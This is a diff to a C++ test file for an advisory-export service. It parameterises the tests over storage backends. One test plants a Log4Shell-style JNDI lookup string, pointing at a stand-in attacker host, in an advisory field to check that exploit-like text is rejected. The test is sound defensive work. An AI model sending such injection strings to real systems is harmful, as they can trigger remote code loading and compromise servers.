@@ -13,6 +13,7 @@ class AdvisoryExports : public store::CaseAdvisoryStoreTest {
  protected:
   void SetUp() override {
     store::CaseAdvisoryStoreTest::SetUp();
+    if (IsSkipped() || HasFatalFailure()) return;
     ctx_.reset(new Context{*store_, clock_, {}, TimeZone(), crypto::generate_seal_key(), {}, std::nullopt, false});
   }
   void TearDown() override {
@@ -27,7 +28,7 @@ class AdvisoryExports : public store::CaseAdvisoryStoreTest {
   std::unique_ptr<Context> ctx_;
 };
 
-TEST_F(AdvisoryExports, TheNewestPublicRevisionInEachFormat) {
+TEST_P(AdvisoryExports, TheNewestPublicRevisionInEachFormat) {
   domain::Advisory a = sample(add_case("LD-2026-000001"), "LD-SA-2026-000001");
   a.publisher = "Acme PSIRT";  // this store has no host organisation to fall back on
   a.affected[0].purl = "pkg:npm/acme-router";  // an OSV ecosystem
@@ -56,7 +57,7 @@ TEST_F(AdvisoryExports, TheNewestPublicRevisionInEachFormat) {
   EXPECT_EQ(get(amber.ref, ExportFormat::csaf).error().code(), "not_found");
 }
 
-TEST_F(AdvisoryExports, ExploitLikeTextInThePublishedSnapshotIsRefusedNamingTheField) {
+TEST_P(AdvisoryExports, ExploitLikeTextInThePublishedSnapshotIsRefusedNamingTheField) {
   domain::Advisory a = sample(add_case("LD-2026-000003"), "LD-SA-2026-000003");
   a.en.detection = "Send ${jndi:ldap://attacker.example/a} as the user agent.";
   ASSERT_TRUE((a.id = insert(a).value()) > 0);
@@ -69,6 +70,8 @@ TEST_F(AdvisoryExports, ExploitLikeTextInThePublishedSnapshotIsRefusedNamingTheF
     EXPECT_NE(r.error().message().find("en.detection"), std::string::npos) << r.error().message();
   }
 }
+
+INSTANTIATE_TEST_SUITE_P(Backends, AdvisoryExports, store::test::kBackends, store::test::backend_name);
 
 }  // namespace
 }  // namespace loudong::services
